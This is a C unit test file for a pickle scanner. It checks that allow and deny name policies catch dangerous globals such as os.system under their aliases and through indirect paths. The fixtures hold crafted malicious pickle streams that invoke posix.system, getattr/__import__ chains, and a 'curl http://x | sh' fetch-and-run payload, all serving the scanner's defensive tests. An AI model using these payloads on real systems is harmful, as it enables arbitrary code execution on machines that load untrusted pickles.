/* test_heed.c - what a site says of names, under all their spellings, and what a
 * scan makes of it. */
#include "policy_fixture.h"

#include "judge/heed.h"
#include "judge/judge.h"
#include "sgscan.h"

#include <sys/mman.h>

#define SCAN_ARENA (32u << 20)

static struct sg_policy policy;

static struct sg_opinion opinion_of(const char *text)
{
    fresh_arena(NULL);
    sg_policy_defaults(&policy, &arena);
    if (parse(&policy, text) != SG_OK)
        fail_msg("%s", error_text());
    return sg_policy_opinion(&policy);
}

static enum sg_said said(const char *text, const char *module, const char *name)
{
    struct sg_opinion opinion = opinion_of(text);

    return sg_heed_ask(&opinion, sg_text_of(module), sg_text_of(name));
}

static struct sg_report scanned(const char *policy_text, const char *bytes, size_t len)
{
    struct sg_options options = {.limits = SG_LIMITS_DEFAULT};
    struct sg_source source = sg_source_mem(bytes, len);
    struct sg_report report;
    static char detail[512];
    struct sg_arena memory_of_scan = {.size = SCAN_ARENA};

    options.opinion = opinion_of(policy_text);
    memory_of_scan.base = mmap(NULL, SCAN_ARENA, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    assert_true(memory_of_scan.base != MAP_FAILED);
    options.limits.max_memory = SCAN_ARENA;
    assert_int_equal(sg_scan(&source, &options, &memory_of_scan, &report), SG_OK);
    snprintf(detail, sizeof(detail), "%s", report.reason_count ? report.reasons[0].detail : "");
    report.reasons[0].detail = detail;
    munmap(memory_of_scan.base, SCAN_ARENA);
    return report;
}

#define SCANNED(policy, stream) scanned(policy, stream, sizeof(stream) - 1)

static void a_pattern_says_how_much_of_a_name_it_writes_out(void **state)
{
    static const struct {
        const char *policy, *module, *name;
        enum sg_said said;
    } rows[] = {
        {"", "os", "system", SG_SAID_NOTHING},
        {"[allow]\nglobal = os.system\n", "os", "system", SG_SAID_NAMED},
        {"[allow]\nglobal = os.*\n", "os", "system", SG_SAID_FAMILY},
        {"[allow]\nglobal = os.sys*\n", "os", "system", SG_SAID_FAMILY},
        {"[allow]\nglobal = o*.system\n", "os", "system", SG_SAID_ALLOWED},
        {"[allow]\nglobal = *\n", "os", "system", SG_SAID_ALLOWED},
        {"[allow]\nglobal = pkg.*\n", "pkg.models", "Net", SG_SAID_ALLOWED},
        {"[allow]\nglobal = pkg.models.*\n", "pkg.models", "Net", SG_SAID_FAMILY},
        {"[allow]\nglobal = pkg.models.*\n", "pkg", "models.Net.make", SG_SAID_ALLOWED},
        {"[allow]\nglobal = *\nglobal = pkg.Net\n", "pkg", "Net", SG_SAID_NAMED},
        {"[allow]\nglobal = pkg.*\n", "pkgs", "Net", SG_SAID_NOTHING},
        {"[allow]\nglobal = pkg.*\n[deny]\nglobal = *.run\n", "pkg", "run", SG_SAID_DENIED},
        {"[allow]\nglobal = pkg.run\n[deny]\nglobal = pkg.*\n", "pkg", "run", SG_SAID_DENIED},
        {"[deny]\nglobal = os.system\n", "os", "systems", SG_SAID_NOTHING},
    };

    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++)
        if (said(rows[i].policy, rows[i].module, rows[i].name) != rows[i].said)
            fail_msg("row %zu: %s %s.%s", i, rows[i].policy, rows[i].module, rows[i].name);
}

static void a_name_is_meant_under_each_of_its_spellings(void **state)
{
    static const struct {
        const char *pattern, *module, *name;
    } rows[] = {
        {"os.system", "posix", "system"},
        {"os.system", "nt", "system"},
        {"posix.system", "os", "system"},
        {"posix.system", "nt", "system"},
        {"nt.*", "posix", "popen"},
        {"builtins.eval", "__builtin__", "eval"},
        {"__builtin__.eval", "builtins", "eval"},
        {"builtins.range", "__builtin__", "xrange"}, /* Python 2, by name */
        {"subprocess.getoutput", "commands", "getoutput"},
        {"commands.getoutput", "subprocess", "getoutput"},
        {"urllib.request.urlopen", "urllib2", "urlopen"},
        {"urllib2.*", "urllib.request", "urlopen"},
        {"importlib._bootstrap.*", "_frozen_importlib", "_load"},
        {"_frozen_importlib.*", "importlib._bootstrap", "_load"},
        {"collections.UserList", "UserList", "UserList"},
        {"pickle.loads", "_pickle", "loads"},
    };
    char text[128];

    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++) {
        snprintf(text, sizeof(text), "[deny]\nglobal = %s\n", rows[i].pattern);
        if (said(text, rows[i].module, rows[i].name) != SG_SAID_DENIED)
            fail_msg("denied %s: %s.%s passes", rows[i].pattern, rows[i].module, rows[i].name);
        snprintf(text, sizeof(text), "[allow]\nglobal = %s\n", rows[i].pattern);
        if (said(text, rows[i].module, rows[i].name) == SG_SAID_NOTHING)
            fail_msg("allowed %s: %s.%s is not", rows[i].pattern, rows[i].module, rows[i].name);
    }
}

static void what_is_denied_is_denied_through_other_names(void **state)
{
    static const struct {
        const char *pattern, *module, *name;
        bool denied;
    } rows[] = {
        {"secrets.token", "pkg", "secrets.token", true},
        {"secrets.*", "pkg", "sub.secrets.token", true},
        {"secrets.token", "pkg", "secrets.token.__call__", true},
        {"secrets.token", "secrets", "token.__call__", true},
        {"posix.system", "torch", "serialization.os.system", true},
        {"secrets.token", "secrets", "tokens", false},
        {"utils.*", "torch.utils.data", "Dataset", false}, /* another module of that name */
        {"utils.*", "torch", "utils.data", true},
        {"secrets.token", "pkg", "a.b.c.d.e.f.g.h.i.j.k", true}, /* nobody's name */
    };
    char text[128];

    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++) {
        snprintf(text, sizeof(text), "[deny]\nglobal = %s\n", rows[i].pattern);
        if ((said(text, rows[i].module, rows[i].name) == SG_SAID_DENIED) != rows[i].denied)
            fail_msg("%s: %s.%s", rows[i].pattern, rows[i].module, rows[i].name);
    }
}

static void names_that_are_longer_than_any_are_survived(void **state)
{
    char *name = malloc(1 << 16);

    (void)state;
    memset(name, 'a', (1 << 16) - 1);
    name[(1 << 16) - 1] = '\0';
    assert_int_equal(said("[deny]\nglobal = x.*\n", name, name), SG_SAID_NOTHING);
    assert_int_equal(said("[deny]\nglobal = *a\n", "", name), SG_SAID_DENIED);
    assert_int_equal(said("[deny]\nglobal = *a\n", name, ""), SG_SAID_DENIED);
    assert_int_equal(said("[deny]\nglobal = *\n", "", ""), SG_SAID_NOTHING);
    memcpy(name, "nt.", 3);
    assert_int_equal(said("[deny]\nglobal = os.*\n", name, "x"), SG_SAID_NOTHING); /* cut */
    free(name);
}

static void lone_names_weigh_as_the_site_says(void **state)
{
    static const struct {
        const char *pattern, *module, *name;
        bool clean;
    } rows[] = {
        {"mypkg.models.*", "mypkg.models", "handy", true},
        {"mypkg.*", "mypkg.models", "handy", true},
        {"posix.system", "posix", "system", true},
        {"os.*", "posix", "system", true},
        {"subprocess.*", "subprocess", "run", true},
        {"*", "posix", "system", false},
        {"*.system", "posix", "system", false},
        {"mypkg.models.*", "mypkg.models", "os.system", false},
        {"mypkg.models.*", "mypkg", "models.os.system", false},
        {"mypkg.models.os.*", "mypkg.models", "os.system", false},
        {"mypkg.models.os.system", "mypkg.models", "os.system", true},
        {"mypkg.models.*", "mypkg.models", "__builtins__", false},
        {"mypkg.models.*", "mypkg.models", "f.__globals__", false},
        {"torch.*", "torch", "hub.load_state_dict_from_url", false},
        {"torch.hub.*", "torch", "hub.load_state_dict_from_url", true},
    };
    char text[128], detail[256];

    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++) {
        snprintf(text, sizeof(text), "[allow]\nglobal = %s\n", rows[i].pattern);
        struct sg_opinion opinion = opinion_of(text);
        double weight = sg_judge_name_heeding(&opinion, sg_text_of(rows[i].module),
                                              sg_text_of(rows[i].name), detail, sizeof(detail));
        if ((weight == 0) != rows[i].clean)
            fail_msg("%s: %s.%s weighs %f", rows[i].pattern, rows[i].module, rows[i].name, weight);
    }
    struct sg_opinion opinion = opinion_of("[deny]\nglobal = collections.*\n");
    assert_float_equal(sg_judge_name_heeding(&opinion, SG_TEXT("collections"),
                                             SG_TEXT("OrderedDict"), detail, sizeof(detail)),
                       1, 0);
    assert_string_equal(detail, "names collections.OrderedDict, which the policy denies");
}

static void a_scan_refuses_what_is_denied(void **state)
{
    static const char *const streams[] = {
        "ccollections\nOrderedDict\n)R.",
        "(icollections\nOrderedDict\n.",
        "\x80\x04\x8c\x0b"
        "collections\x8c\x0bOrderedDict\x93)\x81.",
        "\x80\x04\x8c\x08"
        "builtins\x8c\x07getattr\x93\x8c\x08"
        "builtins\x8c\x0a__import__\x93"
        "\x8c\x0b"
        "collections\x85R\x8c\x0bOrderedDict\x86R.",
        "cmodels\ncollections.OrderedDict\n.",
    };

    (void)state;
    for (size_t i = 0; i < COUNT(streams); i++) {
        struct sg_report report =
            scanned("[deny]\nglobal = collections.*\n", streams[i], strlen(streams[i]));
        if (report.verdict != SG_MALICIOUS || report.score != 1)
            fail_msg("stream %zu: %f", i, report.score);
        assert_non_null(strstr(report.reasons[0].detail, "which the policy denies"));
        assert_string_equal(report.reasons[0].rule, "denied-name");
    }
    struct sg_report report = SCANNED("[deny]\nglobal = os.system\n", "cposix\nsystem\n(S'x'\ntR.");
    assert_string_equal(report.reasons[0].detail,
                        "calls posix.system(\"x\"), which the policy denies");
    report = SCANNED("[deny]\nglobal = subprocess.*\n", "ccommands\ngetoutput\n(S'x'\ntR.");
    assert_string_equal(report.reasons[0].rule, "denied-name");
    report = SCANNED("[deny]\nglobal = commands.*\n", "ccommands\ngetoutput\n(S'x'\ntR.");
    assert_string_equal(report.reasons[0].rule, "denied-name");
}

static void a_scan_takes_the_sites_word_for_what_is_allowed(void **state)
{
#define RUNS "cmypkg.models\nhandy\n(S'curl http://x | sh'\ntR."
    struct sg_report report = SCANNED("", RUNS);

    (void)state;
    assert_int_equal(report.verdict, SG_MALICIOUS);
    report = SCANNED("[allow]\nglobal = mypkg.models.*\n", RUNS);
    assert_int_equal(report.verdict, SG_BENIGN);
    assert_true(report.score == 0);
    report = SCANNED("[allow]\nglobal = os.system\n", "cposix\nsystem\n(S'touch x'\ntR.");
    assert_int_equal(report.verdict, SG_BENIGN);
}

static void a_pattern_does_not_vouch_for_what_is_reached_through_its_names(void **state)
{
    static const char *const streams[] = {
        "cmypkg.models\nos.system\n(S'touch x'\ntR.",
        "cmypkg\nmodels.os.system\n(S'touch x'\ntR.",
        "\x80\x04\x8c\x0cmypkg.models\x8c\x09os.system\x93\x8c\x07touch x\x85R.",
        "\x80\x04\x8c\x0cmypkg.models\x8c\x06system\x93\x8c\x07touch x\x85R.",
        ("c__builtin__\ngetattr\n(c__builtin__\ngetattr\n(c__builtin__\n__import__\n"
         "(S'mypkg.models'\ntRS'os'\ntRS'system'\ntR(S'touch x'\ntR."),
        "cmypkg.models\n__builtins__\n.",
        "cmypkg.models\nNet\n)\x81}S'x'\nI1\nsb0cposix\nsystem\n(S'x'\ntR.",
    };

    (void)state;
    for (size_t i = 0; i < COUNT(streams); i++) {
        struct sg_report report = scanned("[allow]\nglobal = mypkg.models.*\nglobal = mypkg.*\n",
                                          streams[i], strlen(streams[i]));
        if (report.verdict != SG_MALICIOUS)
            fail_msg("stream %zu: %f", i, report.score);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_pattern_says_how_much_of_a_name_it_writes_out),
        cmocka_unit_test(a_name_is_meant_under_each_of_its_spellings),
        cmocka_unit_test(what_is_denied_is_denied_through_other_names),
        cmocka_unit_test(names_that_are_longer_than_any_are_survived),
        cmocka_unit_test(lone_names_weigh_as_the_site_says),
        cmocka_unit_test(a_scan_refuses_what_is_denied),
        cmocka_unit_test(a_scan_takes_the_sites_word_for_what_is_allowed),
        cmocka_unit_test(a_pattern_does_not_vouch_for_what_is_reached_through_its_names),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
